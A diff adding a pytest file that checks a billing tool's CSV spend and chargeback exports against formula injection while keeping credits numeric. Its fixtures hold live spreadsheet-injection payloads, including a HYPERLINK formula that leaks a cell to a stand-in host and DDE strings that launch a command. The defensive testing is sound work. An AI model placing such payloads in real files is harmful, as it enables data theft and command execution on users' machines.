@@ -1,0 +1,126 @@
+"""Every CSV export is safe to open in a spreadsheet: billing text never becomes a formula.
+
+Cells of text that start with `=`, `+`, `-`, `@`, a tab or a carriage return get a leading `'`
+(OWASP's CSV injection rule); amounts stay numbers, negative ones included.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+
+from bot.cli import main
+from bot.cli.chargeback_cmd import render_chargeback
+from bot.money import CostBasis
+from bot.periods import month_period
+from bot.spend.chargeback import Chargeback, TeamCharge
+from tests.conftest import DATA
+from tests.support.cli import import_registry_file
+from tests.support.sample_registry import REGISTRY
+
+HOSTILE = {
+    "resource": '=HYPERLINK("http://x.example/?leak="&A1,"open")',
+    "service": "+SUM(1,2)",
+    "tag": "@cmd|' /C calc'!A0",
+    "region": "-2+3",
+}
+
+
+def hostile_focus_file(path: Path) -> None:
+    """Write a FOCUS export: a day of spend whose text fields are spreadsheet formulas, and a
+    credit (a negative cost) for the same resource."""
+    with (DATA / "focus_sample.csv").open(newline="") as source:
+        reader = csv.DictReader(source)
+        header = list(reader.fieldnames or [])
+        template = next(reader)
+    with path.open("w", newline="") as out:
+        writer = csv.DictWriter(out, fieldnames=header, quoting=csv.QUOTE_ALL)
+        writer.writeheader()
+        for n, cost in enumerate(("40.00", "-12.50")):
+            day = dt.date(2024, 9, 2 + n)
+            row = dict(template)
+            row.update(
+                BilledCost=cost,
+                EffectiveCost=cost,
+                ListCost=cost,
+                ChargePeriodStart=f"{day} 10:00:00",
+                ChargePeriodEnd=f"{day} 11:00:00",
+                ResourceId=HOSTILE["resource"],
+                ServiceName=HOSTILE["service"],
+                RegionId=HOSTILE["region"],
+                Id=str(900000 + n),
+                Tags=json.dumps({"ml:model": HOSTILE["tag"]}),
+            )
+            writer.writerow({k: ("" if v == "NULL" else v) for k, v in row.items()})
+
+
+def assert_no_formula(cells: list[str]) -> None:
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        if cell.startswith("-"):  # only a number may start with a minus
+            Decimal(cell)
+
+
+def test_report_spend_csv_neutralises_billing_text_and_keeps_numbers(
+    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    db = import_registry_file(database_url, tmp_path, REGISTRY)
+    export = tmp_path / "focus.csv"
+    hostile_focus_file(export)
+    assert main([*db, "ingest", "focus", str(export)]) == 0
+    capsys.readouterr()
+    args = ["report", "spend", "--month", "2024-09", "--by", "resource,service,tag,region,day"]
+    assert main([*db, *args, "--format", "csv"]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    lines = [r for r in rows[1:] if r and not r[0].startswith("total_")]
+    assert len(lines) == 2
+    for line in lines:
+        assert line[:4] == [f"'{HOSTILE[k]}" for k in ("resource", "service", "tag", "region")]
+        assert_no_formula(line)
+    assert sorted(Decimal(line[6]) for line in lines) == [Decimal("-12.5"), Decimal(40)]
+    totals = {r[0]: r for r in rows if r and r[0].startswith("total_")}
+    assert Decimal(totals["total_billed"][-2]) == Decimal("27.5")
+
+
+def test_chargeback_csv_neutralises_team_names_and_keeps_negative_amounts() -> None:
+    charge = Chargeback(
+        period=month_period("2026-11"),
+        currency="USD",
+        basis=CostBasis.BILLED,
+        methods={},
+        teams=[
+            TeamCharge(
+                "=cmd|' /C calc'!A0",
+                {
+                    "direct": Decimal("-5.00"),
+                    "unallocated": Decimal("1.00"),
+                    "idle": Decimal(0),
+                    "support": Decimal(0),
+                    "tax": Decimal(0),
+                },
+            ),
+            TeamCharge(
+                "\tranking",
+                {
+                    "direct": Decimal("10.00"),
+                    "unallocated": Decimal(0),
+                    "idle": Decimal(0),
+                    "support": Decimal(0),
+                    "tax": Decimal(0),
+                },
+            ),
+        ],
+        exact_total=Decimal("6.00"),
+    )
+    rows = list(csv.reader(io.StringIO(render_chargeback([charge], "csv"))))
+    teams = [r for r in rows[1:] if r and r[2] != "total"]
+    assert [r[2] for r in teams] == ["'=cmd|' /C calc'!A0", "'\tranking"]
+    assert teams[0][3] == "-5.00"  # a credit stays a number
+    for row in rows:
+        assert_no_formula(row)
